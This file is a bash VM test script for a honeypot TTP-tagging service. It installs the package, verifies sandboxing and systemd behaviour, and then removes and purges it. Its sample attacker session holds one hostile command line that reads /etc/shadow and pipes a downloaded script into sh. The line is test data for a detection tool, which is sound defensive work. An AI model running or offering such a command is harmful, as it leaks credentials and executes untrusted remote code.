#!/bin/bash
# Runs inside the test VM (vm.sh), at boot, under a real systemd: installs the package and
# checks the running service. Prints "VM ok ..." / "VM FAIL ..." lines and a final
# "VM-TEST DONE failures=N" on the serial console; its unit then powers the VM off.
set -u
failures=0
ok() { echo "VM ok   $*"; }
bad() { echo "VM FAIL $*"; failures=$((failures + 1)); }
check() { local what=$1; shift; if "$@"; then ok "$what"; else bad "$what"; fi; }
main_pid() { systemctl show -p MainPID --value ttp-worker.service; }
log_has() { journalctl -q -u ttp-worker.service --no-pager | grep -q "$1"; }
wait_log() { for _ in $(seq 100); do log_has "$1" && return 0; sleep 0.1; done; return 1; }

echo "VM systemd $(systemctl --version | head -1)"
systemctl start nats-server.service
check "nats-server runs on 127.0.0.1:4222" systemctl is-active --quiet nats-server.service

echo "VM == install"
dpkg -i /root/ttp-worker.deb
check "installing started the service" systemctl is-active --quiet ttp-worker.service
check "and enabled it" systemctl is-enabled --quiet ttp-worker.service
check "decnet-ttp.service is its alias" \
    test "$(systemctl show -p Id --value decnet-ttp.service)" = ttp-worker.service
check "it connects to NATS from inside its sandbox" wait_log "subscribed to"
pid=$(main_pid)
check "it runs as ttp-worker ($(ps -o user= -p "$pid"))" test "$(ps -o user= -p "$pid")" = ttp-worker
check "with no capabilities" bash -c "grep -q '^CapEff:[[:space:]]*0000000000000000' /proc/$pid/status"
check "with no new privileges" bash -c "grep -q '^NoNewPrivs:[[:space:]]*1' /proc/$pid/status"
check "with a seccomp filter" bash -c "grep -q '^Seccomp:[[:space:]]*2' /proc/$pid/status"
check "its store is /var/lib/ttp-worker/ttp.db, owned by it" \
    test "$(stat -c %U /var/lib/ttp-worker/ttp.db 2>/dev/null)" = ttp-worker
check "its log lines reach the journal with their priority (info)" \
    bash -c "journalctl -q -u ttp-worker.service -p info..info --no-pager | grep -q 'starting:'"
echo "VM $(systemd-analyze security --no-pager ttp-worker.service | tail -1)"
sleep 3
echo "VM idle, connected, under systemd: $(grep VmRSS /proc/"$pid"/status | tr -s '\t ' ' ')"

payload='{"v":1,"id":"0123456789abcdef0123456789abcdef","topic":"attacker.session.ended","type":"session.ended","ts":1777703010.5,"payload":{"session_id":"vm1","attacker_uuid":null,"attacker_ip":"203.0.113.9","decky_id":"d","service":"ssh","ended_at":"2026-05-02T06:23:30","duration_s":1.0,"commands":[{"id":"vm1#0","command_text":"cat /etc/shadow; wget http://203.0.113.9/x.sh | sh","ts":"2026-05-02T06:21:02","decky":"d","service":"bash"}]}}'
exec 3<>/dev/tcp/127.0.0.1/4222
printf 'CONNECT {"verbose":false}\r\nPUB attacker.session.ended %d\r\n%s\r\nPING\r\n' "${#payload}" "$payload" >&3
sleep 2
exec 3>&-
tags=$(ttp-worker tags --db /var/lib/ttp-worker/ttp.db --format json | wc -l)
check "a published session is tagged and stored under the sandbox ($tags tags)" test "$tags" -gt 0

systemctl reload ttp-worker.service
check "systemctl reload reloads the rules (SIGHUP)" wait_log "rules reloaded"
check "in the same process" test "$(main_pid)" = "$pid"
systemctl stop decnet-ttp.service
check "systemctl stop decnet-ttp.service stops it" bash -c "! systemctl is-active --quiet ttp-worker.service"
check "cleanly (Result=success)" test "$(systemctl show -p Result --value ttp-worker.service)" = success
systemctl start decnet-ttp.service
check "systemctl start decnet-ttp.service starts it again" systemctl is-active --quiet ttp-worker.service
kill -KILL "$(main_pid)"; sleep 3
check "a crash is restarted (Restart=on-failure)" systemctl is-active --quiet ttp-worker.service

echo "VM == upgrade"
echo 'DECNET_TTP_HEARTBEAT_SECS=20' >>/etc/default/ttp-worker
pid=$(main_pid)
dpkg -i /root/ttp-worker-upgrade.deb
check "the upgrade restarted it" bash -c "systemctl is-active --quiet ttp-worker.service && test \"\$(systemctl show -p MainPID --value ttp-worker.service)\" != '$pid'"
check "kept the /etc/default edit" grep -qx 'DECNET_TTP_HEARTBEAT_SECS=20' /etc/default/ttp-worker
after=$(ttp-worker tags --db /var/lib/ttp-worker/ttp.db --format json | wc -l)
check "kept the store ($after tags)" test "$after" = "$tags"

echo "VM == remove"
dpkg -r ttp-worker
check "removing stopped it" bash -c "! systemctl is-active --quiet ttp-worker.service"
check "kept the store" test -f /var/lib/ttp-worker/ttp.db
check "kept the user" getent passwd ttp-worker

echo "VM == purge"
dpkg -P ttp-worker
check "purging removed the store" test ! -e /var/lib/ttp-worker
check "and the user" bash -c "! getent passwd ttp-worker"
check "and /etc/default/ttp-worker" test ! -e /etc/default/ttp-worker
check "and left no unit behind" bash -c "! systemctl cat ttp-worker.service >/dev/null 2>&1"

echo "VM-TEST DONE failures=$failures"
